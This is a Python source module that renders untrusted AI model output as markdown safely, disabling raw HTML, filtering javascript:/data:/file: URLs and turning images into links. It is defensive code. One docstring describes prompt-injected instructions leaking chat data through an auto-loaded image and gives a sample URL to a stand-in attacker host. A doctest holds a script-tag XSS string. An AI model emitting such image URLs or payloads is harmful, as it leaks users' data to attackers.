"""Safe markdown rendering for untrusted model output, whole or while it streams.

Model output is untrusted: :func:`render_markdown` uses markdown-it in CommonMark
mode (plus tables and strikethrough) with raw HTML *disabled*, so ``<script>``,
``<img onerror=…>`` or ``<iframe>`` in an answer come out as visible, escaped
text, and links or images whose URL uses a ``javascript:``, ``vbscript:``,
``file:`` or ``data:`` scheme are left as plain text instead of becoming links.
Images become links too, so that showing an answer never fetches a URL the model
chose.

:class:`IncrementalMarkdown` serves the live display: it holds a growing
document, hands out the HTML of top-level blocks as soon as they are final, and
keeps only the unfinished tail, so each update re-parses and resends just that
tail::

    doc = IncrementalMarkdown()
    doc.append("# Title\\n\\nFirst para")
    if doc.worth_splitting():
        final_html = doc.split()   # "<h1>Title</h1>\\n": the heading can no longer change
    live_html = doc.render_tail()  # "<p>First para</p>\\n": may still change

:class:`~glm_magics.display.markdown_column.MarkdownColumn` builds on it to show a
streamed text as a column of displays with bounded, linear resends.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

__all__ = [
    "CODE_STYLE",
    "PRE_STYLE",
    "BlockLines",
    "IncrementalMarkdown",
    "block_lines",
    "render_markdown",
    "render_with_blocks",
    "unsafe_url",
]

_UNSAFE_SCHEME = re.compile(r"(?:javascript|vbscript|file|data):")
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f]+")
# Tails up to this many characters are re-parsed whenever a line completes;
# longer ones only when they grew by a quarter (or when the caller forces it).
_SMALL_TAIL = 4096
# Top-level blocks that no later line can extend once a blank line follows them.
_ENDED_BY_BLANK = frozenset({"paragraph_open", "blockquote_open", "table_open"})
# Top-level blocks that are final as soon as their last line is complete.
_SELF_CLOSING = frozenset({"heading_open", "hr"})


class _SafeMarkdownIt(MarkdownIt):
    """markdown-it with a stricter link filter than the default one."""

    def validateLink(self, url: str) -> bool:
        """Refuse scripting, file and *all* ``data:`` URLs (the default allows data images).

        Browsers ignore ASCII whitespace and control characters in a URL's scheme,
        so they are dropped before the check.
        """
        return not unsafe_url(url)


def unsafe_url(url: str) -> bool:
    """Whether ``url`` (entities already decoded) uses a scripting, file or data scheme."""
    return _UNSAFE_SCHEME.match(_IGNORED_IN_URL.sub("", url).lower()) is not None


def _image_as_link(
    renderer: RendererHTML,
    tokens: Sequence[Token],
    idx: int,
    options: OptionsDict,
    env: EnvType,
) -> str:
    """Render ``![alt](src)`` as a link: the browser fetches nothing on its own.

    An auto-loaded image URL is the classic way for injected instructions to
    smuggle data out of a chat (``![](https://evil.example/?q=SECRET)``).
    """
    token = tokens[idx]
    alt = renderer.renderInlineAsText(token.children, options, env)
    label = escapeHtml(f"[image: {alt}]" if alt else "[image]")
    src = token.attrGet("src")
    return f'<a href="{escapeHtml(str(src))}">{label}</a>' if src else label


def _make_parser() -> MarkdownIt:
    md = _SafeMarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    md.add_render_rule("image", _image_as_link)
    return md


_MARKDOWN = _make_parser()
_OPTIONS = _MARKDOWN.options
_BLOCKS = _make_parser().disable("inline")  # block structure only: no inline parsing


BlockLines = tuple[set[int], list[tuple[int, int]]]
"""Where a text's code is, and which lines hold one inline run each: see :func:`block_lines`."""


def block_lines(text: str) -> BlockLines:
    """Where ``text``'s code is, and which lines hold one inline run each.

    Returns the 0-based numbers of the lines in code blocks (fenced or indented, at
    any depth, fence lines included), and the ``[start, stop)`` line ranges of the
    blocks whose inline content may span lines (paragraphs, headings, table rows):
    an inline code span never crosses from one to the next.
    """
    return _block_lines(_BLOCKS.parse(text))


def render_with_blocks(text: str) -> tuple[str, BlockLines]:
    """:func:`render_markdown` and :func:`block_lines` of ``text``, from one parse."""
    env: dict[str, Any] = {}
    tokens = _MARKDOWN.parse(text, env)
    return _style_code(_MARKDOWN.renderer.render(tokens, _OPTIONS, env)), _block_lines(tokens)


def _block_lines(tokens: Sequence[Token]) -> BlockLines:
    code: set[int] = set()
    runs: dict[tuple[int, int], None] = {}
    for token in tokens:
        if token.map is None:
            continue
        if token.type in ("fence", "code_block"):
            code.update(range(*token.map))
        elif token.type == "inline":
            runs[(token.map[0], token.map[1])] = None
    return code, list(runs)


def render_markdown(text: str) -> str:
    """Render untrusted markdown to HTML that is safe to display as trusted output.

    >>> render_markdown("**hi** <script>alert(1)</script>")
    '<p><strong>hi</strong> &lt;script&gt;alert(1)&lt;/script&gt;</p>\\n'
    """
    result: str = _MARKDOWN.render(text)
    return _style_code(result)


PRE_STYLE = (
    "background:var(--jp-cell-editor-background,#f5f5f5);padding:0.5em 0.75em;"
    "border-radius:4px;overflow-x:auto;line-height:1.4"
)
"""A code block's style: one background for the block, the theme's code cell colour."""
CODE_STYLE = "background:none;padding:0;white-space:pre"
"""Inside a block, the code has no background of its own (else each line gets one)."""


def _style_code(html: str) -> str:
    """Give code blocks one background. Raw HTML from the model is escaped by the
    renderer, so every ``<pre><code`` in ``html`` is one of ours."""
    return html.replace("<pre><code", f'<pre style="{PRE_STYLE}"><code style="{CODE_STYLE}"')


def _line_offset(text: str, line: int) -> int:
    """Index in ``text`` where line number ``line`` (0-based) starts."""
    offset = 0
    for _ in range(line):
        offset = text.index("\n", offset) + 1
    return offset


def _closing_fence(markup: str, *, strict: bool = True) -> re.Pattern[str]:
    """Pattern for a line closing a top-level fence opened by ``markup``.

    The loose variant (any indentation) only decides when re-parsing is worth it.
    """
    indent = " {0,3}" if strict else "[ \t]*"
    char = re.escape(markup[0])
    return re.compile(rf"^{indent}{char}{{{len(markup)},}}[ \t]*$", re.MULTILINE)


class IncrementalMarkdown:
    """A growing markdown document, split into final blocks and an unfinished tail.

    Only complete lines decide what is final (a partial line such as ``|-`` or
    ``==`` could still turn into anything). A top-level block is final when a
    later top-level block has started, when it is a heading, a rule or a closed
    code fence, or when a blank line follows a paragraph, block quote or table
    (lists and indented code can continue after a blank line). Parsing a prefix
    that ends at a final block gives exactly the blocks of the whole document,
    so the concatenated output equals :func:`render_markdown` of the whole text;
    the one exception is reference-style links defined after a block that uses
    them, which :attr:`saw_references` reports so the caller can re-render once.

    Cost stays linear: :meth:`worth_splitting` is a cheap check that avoids
    re-parsing a long unfinished block (say a 2,000-line code fence) on every
    update; inside an open fence it only scans new lines for a closing fence, and
    :meth:`split_fence` hands out the fence's finished lines in pieces.
    """

    def __init__(self) -> None:
        self._tail = ""
        self._cr_pending = False
        self._checked = 0  # length of the tail's complete-line prefix at the last split
        self._scanned = 0  # how far new lines were scanned for a closing fence
        self._fence: re.Pattern[str] | None = None  # set while the tail is an open fence
        self._continued = False  # the tail's open fence continues one cut by split_fence
        self.saw_references = False

    @property
    def tail(self) -> str:
        """The unfinished source (normalised newlines), not yet handed out by :meth:`split`."""
        return self._tail

    @property
    def in_fence(self) -> bool:
        """Whether the tail is an open top-level code fence (split only on a closing line)."""
        return self._fence is not None

    def append(self, text: str) -> None:
        """Add streamed text; ``\\r\\n`` and ``\\r`` become ``\\n`` as markdown-it would do."""
        if self._cr_pending:
            text = "\r" + text
        self._cr_pending = text.endswith("\r")
        if self._cr_pending:
            text = text[:-1]
        if "\r" in text:
            text = text.replace("\r\n", "\n").replace("\r", "\n")
        self._tail += text

    def flush(self) -> None:
        """Call at the end of the stream: a held-back trailing ``\\r`` becomes a newline."""
        if self._cr_pending:
            self._cr_pending = False
            self._tail += "\n"

    def has_new_lines(self) -> bool:
        """Whether a line was completed since the last :meth:`split`."""
        return self._tail.rfind("\n") + 1 > self._checked

    def worth_splitting(self) -> bool:
        """Cheap check: could :meth:`split` find a final block now?

        Always true for short tails. For a long tail it is true once the tail grew
        by a quarter since the last split, or, inside an open code fence, only
        when a new line looks like the closing fence.
        """
        end = self._tail.rfind("\n") + 1
        if end <= self._checked:
            return False
        if self._fence is not None:
            found = self._fence.search(self._tail, self._scanned, end) is not None
            self._scanned = end
            return found
        return end <= _SMALL_TAIL or end >= self._checked * 1.25

    def split(self) -> str:
        """Cut the final blocks off the tail and return their HTML ("" if none is final)."""
        end = self._tail.rfind("\n") + 1
        self._checked = self._scanned = end
        self._fence = None
        if end == 0:
            return ""
        complete = self._tail[:end]
        env: dict[str, Any] = {}
        tokens = _MARKDOWN.parse(complete, env)
        if env.get("references"):
            self.saw_references = True
        starts = [
            n for n, t in enumerate(tokens) if t.level == 0 and t.nesting >= 0 and t.map is not None
        ]
        if not starts:
            return ""  # blank lines or a reference definition: its title may follow
        last = tokens[starts[-1]]
        assert last.map is not None
        start, stop = last.map
        line_count = complete.count("\n")
        if self._is_final(last.type, last.markup, complete, start, stop, line_count):
            cut_line, cut_token = line_count, len(tokens)
        else:
            cut_line, cut_token = start, starts[-1]
            if last.type == "fence":
                self._fence = _closing_fence(last.markup, strict=False)
        if cut_line == 0:
            return ""
        offset = end if cut_line == line_count else _line_offset(complete, cut_line)
        html = self._patch_fence(_MARKDOWN.renderer.render(tokens[:cut_token], _OPTIONS, env))
        self._continued = False
        self._tail = self._tail[offset:]
        self._checked -= offset
        self._scanned -= offset
        return html

    def split_fence(self, min_chars: int) -> str:
        """Inside a long open code fence, cut its checked lines off as a fence of their own.

        The tail keeps the opening line, so it still renders as the same fence and
        the pieces hold the same code, as consecutive ``<pre>`` elements styled to
        sit flush. Returns "" until ``min_chars`` of code lines are ready.
        """
        if self._fence is None:
            return ""
        opening_end = self._tail.index("\n") + 1
        if self._scanned - opening_end < min_chars:
            return ""
        html = self._render(self._tail[: self._scanned], last=False)
        self._tail = self._tail[:opening_end] + self._tail[self._scanned :]
        self._checked = self._scanned = opening_end
        self._continued = True
        return html

    @staticmethod
    def _is_final(
        kind: str, markup: str, complete: str, start: int, stop: int, line_count: int
    ) -> bool:
        if kind in _SELF_CLOSING:
            return True
        if kind in _ENDED_BY_BLANK:
            return stop < line_count
        if kind == "fence":
            if stop < line_count:
                return True
            if stop - start < 2:
                return False
            last_line = complete[complete.rfind("\n", 0, len(complete) - 1) + 1 : -1]
            return _closing_fence(markup).match(last_line) is not None
        return False

    def render_tail(self) -> str:
        """HTML of the unfinished tail, including a partial last line."""
        return self._render(self._tail)

    def _render(self, text: str, *, last: bool = True) -> str:
        env: dict[str, Any] = {}
        html: str = _MARKDOWN.render(text, env)
        if env.get("references"):
            self.saw_references = True
        return self._patch_fence(html, last=last)

    def _patch_fence(self, html: str, *, last: bool = True) -> str:
        """Let the ``<pre>`` pieces of one fence split by :meth:`split_fence` sit flush."""
        opening = "<pre><code"
        if (self._continued or not last) and html.startswith(opening):
            style = "".join(
                f";{prop}-{side}:0"
                for side, keep in (("top", not self._continued), ("bottom", last))
                if not keep
                for prop in ("margin", "padding")
            )
            code = f'<code style="{CODE_STYLE}"'
            html = f'<pre style="{PRE_STYLE}{style}">{code}{html[len(opening) :]}'
        return _style_code(html)
